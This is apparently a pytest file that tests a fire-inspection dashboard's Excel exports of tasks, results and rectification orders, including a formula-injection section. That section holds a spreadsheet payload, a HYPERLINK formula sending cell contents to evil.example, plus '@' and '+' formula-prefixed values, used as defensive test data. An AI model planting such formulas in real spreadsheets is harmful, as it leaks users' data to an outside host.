"""Dashboard exports: tasks, results (national platform layout) and rectifications as .xlsx."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import zipfile

import openpyxl
import pytest
from sqlalchemy import event, select

from tests.factories import make_inspection, make_inspector, make_item, make_org, make_task, make_unit, make_user
from webapp.audit import AuditEvent
from webapp.auth.models import OrgKind, Role
from webapp.extensions import db as _db
from webapp.inspections.models import PublishedCategory
from webapp.rectification.models import OrderKind, OrderStatus, RectificationOrder
from webapp.tasks.models import TaskStatus

UTC = dt.UTC


class World:
    pass


def order(org, ins, t, unit, n, status=OrderStatus.PENDING, outcome=None, issued_on=dt.date(2026, 11, 2)):
    o = RectificationOrder(
        org_id=org.id,
        inspection_id=ins.id,
        task_id=t.id,
        unit_id=unit.id,
        kind=OrderKind.DEADLINE,
        number=f"偃消限字〔{issued_on.year}〕{n}号",
        year=issued_on.year,
        seq=n,
        problems=[{"text": "灭火器过期"}, {"text": "疏散通道堵塞"}],
        issued_at=dt.datetime.combine(issued_on, dt.time(2), UTC),
        issued_on=issued_on,
        deadline=issued_on + dt.timedelta(days=10),
        status=status,
        outcome=outcome,
    )
    _db.session.add(o)
    _db.session.flush()
    return o


@pytest.fixture
def w(db):
    w = World()
    w.city = make_org(code="city", name="洛阳市消防救援支队", kind=OrgKind.ZHIDUI)
    w.a = make_org(code="a", name="偃师区消防救援大队", parent=w.city)
    w.other = make_org(code="x", name="外市大队")
    item = make_item(w.city)
    w.version = item.current.id
    w.item_name = item.current.name
    w.sup_a = make_user(w.a, Role.SUPERVISOR)
    w.x = make_inspector(w.a, name="王小锋")
    w.y = make_inspector(w.a, name="李四")
    w.z = make_inspector(w.a, name="赵五")
    w.ox = make_inspector(w.other, name="外人")
    w.unit = make_unit(w.a, name="偃师宏达商贸有限公司")
    w.ounit = make_unit(w.other, name="外市某公司")
    # z was replaced by y: only active assignments are listed, in slot order
    w.t = make_task(
        w.a, w.unit, w.version, dt.date(2026, 11, 5), TaskStatus.SUBMITTED, [(w.x, True), (w.z, False), (w.y, True)]
    )
    w.ot = make_task(w.other, w.ounit, w.version, dt.date(2026, 11, 6), TaskStatus.SUBMITTED, [(w.ox, True)])
    w.old = make_task(w.a, make_unit(w.a, name="去年单位"), w.version, dt.date(2025, 11, 6))
    first = make_inspection(w.t, dt.datetime(2026, 11, 5, 3, tzinfo=UTC), PublishedCategory.NO_PROBLEM)
    # corrected result supersedes the first; submitted 23:30 UTC = 6 Nov in Shanghai
    w.ins = make_inspection(w.t, dt.datetime(2026, 11, 5, 23, 30, tzinfo=UTC), PublishedCategory.ORDERED_RECTIFY, first)
    w.oins = make_inspection(w.ot, dt.datetime(2026, 11, 6, 3, tzinfo=UTC), PublishedCategory.NO_PROBLEM)
    order(w.a, w.ins, w.t, w.unit, 7, OrderStatus.NOT_RECTIFIED, [True, False])
    order(w.other, w.oins, w.ot, w.ounit, 8)
    _db.session.commit()
    return w


def download(client, url):
    resp = client.get(url)
    assert resp.status_code == 200, resp.status_code
    assert resp.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    wb = openpyxl.load_workbook(io.BytesIO(resp.get_data()), read_only=True)
    return [list(r) for r in wb.worksheets[0].iter_rows(values_only=True)]


def test_results_in_national_platform_layout(w, client, login_as):
    login_as(w.sup_a)
    rows = download(client, "/dashboard/export/results.xlsx")
    national = ["检查对象名称", "统一社会信用代码", "抽查事项", "检查日期", "检查结果（公示类别）", "检查机关"]
    assert rows[0][:6] == national
    # only the result in force (the superseded one is gone), only own organisation's units
    assert [r[:6] for r in rows[1:]] == [
        [
            "偃师宏达商贸有限公司",
            w.unit.uscc,
            w.item_name,
            dt.datetime(2026, 11, 6),  # a date cell (Shanghai date of the submission)
            "发现问题已责令改正",
            "偃师区消防救援大队",
        ]
    ]
    assert rows[1][6] == w.t.public_id and rows[1][9:11] == ["王小锋", "李四"]  # 任务编号, 主办, 协办
    ev = _db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.results")).one()
    assert json.loads(ev.data)["rows"] == 1


def test_tasks_export_with_year_filter(w, client, login_as):
    login_as(w.sup_a)
    rows = download(client, "/dashboard/export/tasks.xlsx?year=2026&month=11")
    assert rows[0][:9] == [
        "任务编号",
        "检查对象名称",
        "统一社会信用代码",
        "抽查事项",
        "计划检查日期",
        "主办人员",
        "协办人员",
        "任务状态",
        "检查机关",
    ]
    assert [r[:9] for r in rows[1:]] == [
        [
            w.t.public_id,
            "偃师宏达商贸有限公司",
            w.unit.uscc,
            w.item_name,
            dt.datetime(2026, 11, 5),  # a date cell
            "王小锋",
            "李四",
            "已完成",
            "偃师区消防救援大队",
        ]
    ]
    all_rows = download(client, "/dashboard/export/tasks.xlsx")
    names = [r[1] for r in all_rows[1:]]
    assert names == ["去年单位", "偃师宏达商贸有限公司"]
    assert "外市某公司" not in names
    assert download(client, "/dashboard/export/tasks.xlsx?year=2025&month=12")[1:] == []


def test_rectifications_export(w, client, login_as):
    login_as(w.sup_a)
    rows = download(client, "/dashboard/export/rectifications.xlsx?year=2026")
    assert rows[0] == ["文书编号", "单位", "统一社会信用代码", "期限", "状态", "复查结果", "检查机关"]
    assert rows[1:] == [
        [
            "偃消限字〔2026〕7号",
            "偃师宏达商贸有限公司",
            w.unit.uscc,
            dt.datetime(2026, 11, 12),  # a date cell
            "逾期未改正",
            "1/2项已改正",
            "偃师区消防救援大队",
        ]
    ]
    ev = _db.session.scalars(select(AuditEvent).where(AuditEvent.action == "export.rectifications")).one()
    assert json.loads(ev.data) == {"rows": 1, "filters": {"year": 2026}}


def test_each_export_is_one_query_whatever_the_rows(w, client, login_as):
    for _n in range(3):
        t = make_task(
            w.a, make_unit(w.a), w.version, dt.date(2026, 11, 9), TaskStatus.SUBMITTED, [(w.x, True), (w.y, True)]
        )
        make_inspection(t, dt.datetime(2026, 11, 9, 3, tzinfo=UTC), PublishedCategory.NO_PROBLEM)
    _db.session.commit()
    login_as(w.sup_a)
    selects = []

    def count(conn, cursor, statement, *args):
        if statement.lstrip().upper().startswith("SELECT") and "task" in statement and "unit" in statement:
            selects.append(statement)

    engine = _db.engine
    event.listen(engine, "before_cursor_execute", count)
    try:
        rows = download(client, "/dashboard/export/results.xlsx")
    finally:
        event.remove(engine, "before_cursor_execute", count)
    assert len(rows) == 5
    assert len(selects) == 1


def test_exports_refused_to_inspectors(w, client, login_as):
    user = make_user(w.a, Role.INSPECTOR)
    _db.session.commit()
    login_as(user)
    for kind in ("tasks", "results", "rectifications"):
        assert client.get(f"/dashboard/export/{kind}.xlsx").status_code == 403


def test_dashboard_card_starts_exports(w, client, login_as):
    # the card posts a period and a kind to an export job (tests/dashboard/test_export_jobs.py);
    # the direct /dashboard/export/<kind>.xlsx routes above stay for scripts
    login_as(w.sup_a)
    html = client.get("/dashboard/").get_data(as_text=True)
    assert 'action="/dashboard/exports"' in html
    assert 'name="kind" value="results"' in html and "导出检查结果" in html


# ---------------------------------------------------------------------------------- formula injection

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def workbook_of(client, url):
    resp = client.get(url)
    assert resp.status_code == 200, resp.status_code
    with zipfile.ZipFile(io.BytesIO(resp.get_data())) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    return openpyxl.load_workbook(io.BytesIO(resp.get_data())).worksheets[0], sheet_xml


@pytest.mark.parametrize("kind", ["tasks", "results", "rectifications"])
def test_a_formula_typed_as_a_name_is_exported_as_text(w, client, login_as, kind):
    """A unit named like a formula (and an inspector named ``@…``, an organisation ``+…``) is plain text in every
    dashboard export: no formula in the file, the text kept whole and marked as text (Excel's quote prefix), so
    that opening, editing or re-saving the sheet never runs it."""
    w.unit.name = EVIL
    w.x.name = "@SUM(1+1)"
    w.a.name = "+大队 -1"
    _db.session.commit()
    login_as(w.sup_a)
    ws, sheet_xml = workbook_of(client, f"/dashboard/export/{kind}.xlsx?year=2026")
    assert not re.search(r"<f[\s>]", sheet_xml)  # no live formula anywhere in the sheet
    cells = {c.value: c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)}
    assert EVIL in cells and cells[EVIL].data_type == "s" and cells[EVIL].quotePrefix
    assert cells["+大队 -1"].data_type == "s" and cells["+大队 -1"].quotePrefix
    if kind != "rectifications":
        assert cells["@SUM(1+1)"].quotePrefix  # the lead, in a column of its own
    assert not cells[w.unit.uscc].quotePrefix  # ordinary text stays ordinary


def test_dates_are_dates_in_every_export(w, client, login_as):
    """Dates are date cells (sortable and filterable in Excel), shown as YYYY-MM-DD."""
    login_as(w.sup_a)
    for url, column in (
        ("/dashboard/export/tasks.xlsx?year=2026", 5),
        ("/dashboard/export/results.xlsx", 4),
        ("/dashboard/export/rectifications.xlsx", 4),
    ):
        ws, _xml = workbook_of(client, url)
        cell = ws.cell(row=2, column=column)
        assert cell.is_date and cell.number_format == "yyyy-mm-dd", (url, cell.value, cell.number_format)
